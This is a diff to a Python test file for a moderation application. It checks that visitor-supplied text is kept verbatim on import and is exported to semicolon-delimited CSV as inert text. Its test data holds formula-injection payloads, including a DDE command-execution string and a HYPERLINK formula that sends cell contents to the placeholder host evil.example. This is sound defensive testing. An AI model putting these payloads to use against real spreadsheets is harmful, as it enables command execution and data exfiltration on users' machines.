@@ -448,7 +448,7 @@ def test_a_hostile_import_file_name_is_shown_cleaned(moderator: Client, make_ite
     assert "\u202e" not in response.content.decode()
 
 
-FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "visitor;=1+1"]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
@@ -456,10 +456,11 @@ def test_formula_injection_is_kept_as_text_and_exported_as_text(
     moderator: Client, cast: Cast, make_item: Any, make_account: Any, formula: str
 ) -> None:
     """Imported as the visitor wrote it (KAU-PUBLIC-RECORD: the record is kept as it was), and written
-    to every CSV export with a leading apostrophe, so that no spreadsheet runs it."""
+    to every CSV export quoted, with a leading apostrophe where a spreadsheet would read a formula,
+    so that no spreadsheet runs it."""
     import csv
 
-    from accounts.views import _cell
+    from core import csvfile
     from moderation.imports import parse_items
     from tests.moderation.conftest import NOW
 
@@ -469,13 +470,14 @@ def test_formula_injection_is_kept_as_text_and_exported_as_text(
     )
     assert result.is_clean, result.errors
     assert result.rows[0].author == formula.replace("\r", "").strip()
-    # Every CSV writer (the registry, the response report, the archive's bag) goes through _cell.
-    cell = _cell(formula)
-    assert cell.startswith("'")
-    assert cell[1:] == formula
-    out = io.StringIO()
-    csv.writer(out).writerow([cell])
-    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == cell  # still text after a round trip
+    # Every CSV writer (the registry, the response report, the archive's bag, the diary package)
+    # goes through core.csvfile.
+    written = csvfile.csv_text([[formula, "next"]])
+    (row,) = csv.reader(io.StringIO(written[1:], newline=""), delimiter=";")
+    assert row[1] == "next"  # a semicolon in the value does not start a new cell
+    assert row[0] in {formula, "'" + formula}
+    assert row[0][:1] not in {"\t", "\r"}
+    assert row[0].lstrip()[:1] not in {"=", "+", "-", "@"}
 
 
 def test_the_registry_export_writes_a_formula_name_as_text(
@@ -491,7 +493,7 @@ def test_the_registry_export_writes_a_formula_name_as_text(
     client.force_login(cast["social_media_lead"])
     response = client.get(reverse("accounts:export"))
     assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     names = [row[3] for row in rows[1:]]
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")' in names
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
